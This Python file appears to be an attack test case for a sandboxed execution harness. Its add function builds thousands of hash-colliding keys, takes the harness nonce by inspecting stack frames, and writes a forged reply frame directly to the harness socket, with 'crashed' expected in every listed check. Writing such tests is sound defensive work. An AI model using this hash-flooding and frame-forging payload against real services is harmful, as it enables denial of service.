# /// attack
# row = "own"
# what.en = "Answers with a mapping whose keys all have the same hash."
# what.zh = "用一个所有键哈希都相同的映射应答。"
# expect.small_sum = ["crashed"]
# expect.add = ["crashed"]
# expect.add_again = ["crashed"]
# expect.words = ["crashed"]
# tiers = ["A", "B", "C", "D", "E"]
# ///
import socket
import struct
import sys
import time

import msgspec

PRIME_1, PRIME_2, PRIME_5, MASK = 11400714785074694791, 14029467366897019727, 2870177450012600261, (1 << 64) - 1
INVERSE_1, INVERSE_2 = pow(PRIME_1, -1, 1 << 64), pow(PRIME_2, -1, 1 << 64)


def _lane(state, lane):
    state = (state + lane * PRIME_2) & MASK
    return (((state << 31) | (state >> 33)) * PRIME_1) & MASK


def _pairs(count):
    """Pairs of small numbers that hash alike: the second is solved for, as nothing in the hash is secret."""
    wanted = _lane(_lane(PRIME_5, 0), 1)
    first = 0
    while count:
        state = _lane(PRIME_5, first)
        turned = (wanted * INVERSE_1) & MASK
        second = (((turned >> 31) | (turned << 33)) - state) * INVERSE_2 & MASK
        if second < (1 << 61) - 1:
            yield (first, second)
            count -= 1
        first += 1


def _nonce():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("frame")
        if hasattr(found, "nonce"):
            return found.nonce
        frame = frame.f_back


def add(a, b):
    # Not by way of a mapping of our own: that would be the one to suffer.
    pairs = [(["l", pair, True], None) for pair in _pairs(9000)]
    body = msgspec.msgpack.encode(["l", [["m", pairs], None], True])
    header = msgspec.msgpack.encode({"type": "done", "tree_bytes": len(body)})
    socket.socket(fileno=3).sendall(struct.pack("<4s16sIQ", b"GRW1", _nonce(), len(header), len(body)) + header + body)
    time.sleep(60)
